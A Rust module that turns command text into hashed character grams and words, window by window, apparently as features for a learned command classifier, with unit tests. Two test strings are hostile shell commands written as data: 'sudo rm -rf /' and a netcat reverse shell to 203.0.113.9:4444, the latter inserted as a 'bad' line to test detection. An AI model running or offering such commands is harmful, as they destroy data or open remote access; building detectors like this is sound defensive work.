//! Commands and code as short runs of characters, for the learned table: what a program is called, how its options and
//! paths are spelt, and what stands next to what.
//!
//! A text is read in lower case with every run of white space as one space. Its grams are the runs of 3, 4 and 5 bytes, and
//! its words: runs of letters, digits and underscores. Each counts once. Long texts are read window by window, so that one
//! bad line does not drown.

/// Buckets of grams; a power of two.
pub(super) const BUCKETS: usize = 1 << 16;
/// Bytes of one window.
const WINDOW: usize = 1_024;
/// Bytes before the end of a window from which a space ends it.
const SLACK: usize = 128;

/// Grams that a window may have: three begin at each byte, and at most every other byte ends a word.
const MOST: usize = 4 * (WINDOW + 8);

/// A set of grams: as bits, and in the order in which they came.
struct Grams {
    bits: Box<[u64; BUCKETS / 64]>,
    buckets: Box<[u16; MOST]>,
    count: usize,
}

impl Grams {
    fn add(&mut self, hash: u32) {
        // The product spreads what differs in few bits (Knuth, The Art of Computer Programming 3, 6.4).
        let bucket = (hash.wrapping_mul(0x9e37_79b1) >> (32 - BUCKETS.trailing_zeros())) as usize;
        let (word, bit) = (&mut self.bits[bucket / 64 % (BUCKETS / 64)], 1 << (bucket % 64));
        // No branch: nothing tells which gram is a new one.
        self.buckets[self.count.min(MOST - 1)] = bucket as u16;
        self.count += usize::from(*word & bit == 0);
        *word |= bit;
    }

    fn clear(&mut self) {
        // What was set is fewer than all.
        for bucket in &self.buckets[..self.count] {
            self.bits[usize::from(*bucket) / 64] = 0;
        }
        self.count = 0;
    }
}

/// Calls `each` with the buckets of each window of the texts, which count as one text.
pub(super) fn windows<'t>(texts: impl Iterator<Item = &'t str>, mut each: impl FnMut(&[u16])) {
    let mut grams = Grams { bits: Box::new([0; BUCKETS / 64]), buckets: Box::new([0; MOST]), count: 0 };
    // The window: a space, `length` bytes of it, and room for a space behind them.
    let mut line = [b' '; WINDOW + 2];
    let mut length = 1;
    let mut flush = |line: &mut [u8; WINDOW + 2], length: usize| {
        if length > 1 {
            line[length] = b' ';
            fill(&line[..=length], &mut grams);
            each(&grams.buckets[..grams.count]);
            grams.clear();
        }
    };
    for text in texts {
        for byte in text.bytes().chain([b' ']) {
            let is_space = byte.is_ascii_whitespace();
            if length >= WINDOW - SLACK && (is_space || length >= WINDOW) {
                flush(&mut line, length);
                length = 1;
            }
            line[length] = if is_space { b' ' } else { byte.to_ascii_lowercase() };
            // A space behind a space is written over.
            length += usize::from(!is_space || line[length - 1] != b' ');
        }
    }
    length -= usize::from(length > 1 && line[length - 1] == b' ');
    flush(&mut line, length);
}

/// FNV-1a (Fowler, Noll, Vo; 32 bits), a step.
fn step(hash: u32, byte: u8) -> u32 {
    (hash ^ u32::from(byte)).wrapping_mul(0x0100_0193)
}

const START: u32 = 0x811c_9dc5;
/// Words begin elsewhere, so that a word of four letters is another gram than its letters.
const WORD: u32 = START ^ 0x5a5a_5a5a;

fn fill(line: &[u8], grams: &mut Grams) {
    let mut add = |hash: u32| grams.add(hash);
    let three = |run: &[u8]| run.iter().fold(START, |hash, byte| step(hash, *byte));
    for run in line.windows(5) {
        let hash = three(&run[..3]);
        add(hash);
        let hash = step(hash, run[3]);
        add(hash);
        add(step(hash, run[4]));
    }
    // What is left at the end, or all of a short text.
    for at in line.len().saturating_sub(4)..line.len().saturating_sub(2) {
        let mut hash = three(&line[at..at + 3]);
        add(hash);
        if let Some(byte) = line.get(at + 3) {
            hash = step(hash, *byte);
            add(hash);
        }
    }
    let mut word = WORD;
    for byte in line {
        if byte.is_ascii_alphanumeric() || *byte == b'_' || *byte >= 0x80 {
            word = step(word, *byte);
        } else if word != WORD {
            add(std::mem::replace(&mut word, WORD));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn all(texts: &[&str]) -> Vec<Vec<u16>> {
        let mut found = Vec::new();
        windows(texts.iter().copied(), |buckets| {
            let mut buckets = buckets.to_vec();
            buckets.sort_unstable();
            found.push(buckets);
        });
        found
    }

    #[test]
    fn spelling_counts_once_and_spaces_do_not() {
        assert_eq!(all(&["Sudo  rm\n-rf /"]), all(&["sudo rm -rf /"]));
        assert_eq!(all(&["a b", "c"]), all(&["a b c"]));
        let twice = all(&["ab ab ab ab"]);
        assert_eq!(twice, all(&["ab ab ab ab ab"]));
        // ` ab`, `ab `, ` ab `, `b a`, `ab a`, ` ab a`, `b ab`, `ab ab`, `b ab ` and the word.
        assert_eq!(twice[0].len(), 10);
        assert!(all(&[""]).is_empty() && all(&[" \n"]).is_empty());
        assert_eq!(all(&["x"]).len(), 1);
    }

    #[test]
    fn long_texts_are_read_in_windows() {
        let line = "grep -rn timeout src/*.rs; ".repeat(200);
        let found = all(&[&line]);
        assert!(found.len() > 4 && found.len() < 8, "{}", found.len());
        let bad = format!("{line} nc -e /bin/sh 203.0.113.9 4444 {line}");
        let without = &found[0];
        assert!(all(&[&bad]).iter().any(|window| window.len() > without.len()));
        assert!(all(&[&"x".repeat(5_000)]).len() >= 5);
    }
}
